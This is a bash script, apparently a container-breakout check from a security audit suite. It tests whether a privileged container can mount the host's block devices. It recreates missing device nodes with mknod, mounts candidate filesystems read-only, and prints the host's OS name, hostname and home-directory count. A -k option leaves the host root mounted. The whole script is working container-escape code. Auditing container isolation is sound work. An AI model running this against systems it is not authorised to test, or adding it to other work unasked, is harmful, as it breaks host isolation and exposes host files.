#!/bin/bash
# host_disk_probe.sh - container breakout check #3: block devices.
#
# A container started with --privileged (or with --device pointing at a
# disk) can see the host's block devices under /dev.  If one of them holds
# a Linux root filesystem we can mount it and read the host's files.  This
# check proves the point by mounting each candidate read-only, printing the
# host's os-release and hostname, and unmounting again.
#
# usage: host_disk_probe.sh [-m MOUNTPOINT] [-k] [-v]
#   -m  where to mount candidates (default /mnt/hostdisk)
#   -k  keep the first successful mount in place
#   -v  verbose

MNT=/mnt/hostdisk
KEEP=0
VERBOSE=0

while getopts "m:kv" o; do
    case "$o" in
        m) MNT="$OPTARG" ;;
        k) KEEP=1 ;;
        v) VERBOSE=1 ;;
        *) exit 2 ;;
    esac
done

info()  { echo "[*] $*"; }
good()  { echo "[+] $*"; }
bad()   { echo "[-] $*"; }
debug() { [ "$VERBOSE" -eq 1 ] && echo "    $*"; }

cap_sys_admin() {
    local eff
    eff=$(awk '/^CapEff/ {print $2}' /proc/self/status)
    (( (16#$eff >> 21) & 1 ))
}

list_candidates() {
    # whole disks and partitions the kernel knows about, as seen from here
    awk 'NR > 2 {print $4}' /proc/partitions | while read -r dev; do
        case "$dev" in
            loop*|ram*|sr*|zram*) continue ;;
        esac
        [ -b "/dev/$dev" ] && echo "/dev/$dev"
    done
}

create_missing_nodes() {
    # some runtimes pass the device cgroup rule but not the node itself
    awk 'NR > 2 {print $1, $2, $4}' /proc/partitions | while read -r major minor dev; do
        case "$dev" in loop*|ram*|sr*|zram*) continue ;; esac
        if [ ! -e "/dev/$dev" ]; then
            debug "mknod /dev/$dev b $major $minor"
            mknod "/dev/$dev" b "$major" "$minor" 2>/dev/null
        fi
    done
}

looks_like_root() {
    [ -f "$1/etc/os-release" ] && [ -d "$1/usr/bin" ]
}

try_device() {
    local dev=$1 fstype is_root=1
    fstype=$(blkid -o value -s TYPE "$dev" 2>/dev/null)
    case "$fstype" in
        ext2|ext3|ext4|xfs|btrfs) ;;
        "") debug "$dev: no filesystem signature"; return 1 ;;
        *)  debug "$dev: skipping $fstype"; return 1 ;;
    esac
    debug "$dev: $fstype, mounting read-only"
    if ! mount -t "$fstype" -o ro,noload "$dev" "$MNT" 2>/dev/null &&
       ! mount -o ro "$dev" "$MNT" 2>/dev/null; then
        bad "$dev: mount failed"
        return 1
    fi
    if looks_like_root "$MNT"; then
        is_root=0
        good "$dev is a host root filesystem"
        sed -n 's/^PRETTY_NAME=//p' "$MNT/etc/os-release" | tr -d '"' | sed 's/^/    os: /'
        [ -f "$MNT/etc/hostname" ] && echo "    hostname: $(cat "$MNT/etc/hostname")"
        echo "    users with a home: $(ls "$MNT/home" 2>/dev/null | wc -l)"
        if [ "$KEEP" -eq 1 ]; then
            info "leaving $dev mounted on $MNT"
            return 0
        fi
    else
        debug "$dev: mounted but not a root filesystem"
    fi
    umount "$MNT" 2>/dev/null || umount -l "$MNT"
    return "$is_root"
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        bad "not root inside the container; check not applicable"
        exit 0
    fi
    if ! cap_sys_admin; then
        bad "CAP_SYS_ADMIN missing; mount(2) will be refused"
        exit 0
    fi
    mkdir -p "$MNT"
    create_missing_nodes
    local found=0
    for dev in $(list_candidates); do
        info "trying $dev"
        if try_device "$dev"; then
            found=1
            break
        fi
    done
    if [ "$found" -eq 0 ]; then
        info "no host root filesystem reachable through /dev"
    fi
}

main "$@"
